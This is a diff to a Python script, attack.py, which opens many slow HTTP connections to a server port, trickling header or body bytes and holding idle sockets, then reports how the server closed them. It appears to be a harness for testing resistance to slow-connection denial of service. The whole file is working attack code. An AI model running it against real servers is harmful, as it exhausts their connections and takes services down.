@@ -1,8 +1,8 @@
 """Holds connections that cost a server more than they give: attack.py PORT KEY headers|bodies|idle=COUNT...
 
-`headers` send a byte of their head each second, `bodies` one of their body, and both come back when they are closed; of those
-that are `idle` every other one has sent a request before. Says `ready` when all are open; when standard input ends, how
-many the server closed, and after what answer.
+`headers` send a byte of their head each second, `bodies` one of their body, each at a time of its own, and both come back when
+they are closed; of those that are `idle` every other one has sent a request before. Says `ready` when all are open; when standard
+input ends, how many the server closed, and after what answer.
 """
 import collections, json, resource, select, socket, sys, time
 
@@ -10,6 +10,7 @@ PORT, KEY = int(sys.argv[1]), sys.argv[2]
 HEAD = f"POST /api/secrets HTTP/1.1\r\nHost: s\r\nX-Session-API-Key: {KEY}\r\n".encode()
 STARTS = {"headers": HEAD + b"X-Slow: ", "bodies": HEAD + b'Content-Length: 60000\r\n\r\n{"name":"', "idle": b""}
 WHOLE = b"GET /alive HTTP/1.1\r\nHost: s\r\n\r\n"
+TICKS = 100  # each second
 
 
 def open_one(kind, i):
@@ -21,38 +22,47 @@ def open_one(kind, i):
         while not answer.endswith(b"\r\n0\r\n\r\n"):
             answer += one.recv(4096)
     one.setblocking(False)
-    poll.register(one, select.POLLIN)
+    poll.register(one, select.EPOLLIN)
     connections[one.fileno()] = kind, one
+    if kind != "idle":
+        slow[one.fileno() % TICKS][one.fileno()] = one
+
+
+def close_one(file):
+    kind, one = connections.pop(file)
+    slow[file % TICKS].pop(file, None)
+    poll.unregister(file)
+    try:
+        answer = one.recv(4096)
+    except OSError:
+        answer = b""
+    one.close()
+    closed[f"{kind} {answer[9:12].decode() or 'without an answer'}"] += 1
+    if kind != "idle":
+        open_one(kind, 0)
 
 
 resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
-poll, connections, closed = select.poll(), {}, collections.Counter()
+poll, connections, slow, closed = select.epoll(), {}, [{} for _ in range(TICKS)], collections.Counter()
 for kind, count in (part.split("=") for part in sys.argv[3:]):
     for i in range(int(count)):
         open_one(kind, i)
+        if kind != "idle":
+            time.sleep(1 / TICKS)  # what is opened together is closed together
 print("ready", flush=True)
-poll.register(sys.stdin, select.POLLIN)
-due = time.monotonic()
+poll.register(sys.stdin, select.EPOLLIN)
+tick, begun = 0, time.monotonic()
 while True:
-    events = [file for file, _ in poll.poll(max(0, due - time.monotonic()) * 1000)]
+    events = [file for file, _ in poll.poll(max(0, begun + tick / TICKS - time.monotonic()))]
     if sys.stdin.fileno() in events:
         break
     for file in events:
-        kind, one = connections.pop(file)
-        poll.unregister(file)
-        try:
-            answer = one.recv(4096)
-        except OSError:
-            answer = b""
-        one.close()
-        closed[f"{kind} {answer[9:12].decode() or 'without an answer'}"] += 1
-        if kind != "idle":
-            open_one(kind, 0)
-    if time.monotonic() >= due:
-        due += 1
-        for kind, one in connections.values():
+        close_one(file)
+    if time.monotonic() >= begun + tick / TICKS:
+        for one in slow[tick % TICKS].values():
             try:
-                one.send(b"x" if kind != "idle" else b"")
+                one.send(b"x")
             except OSError:
                 pass  # it is closed, as the next look shows
+        tick += 1
 print(json.dumps(closed))
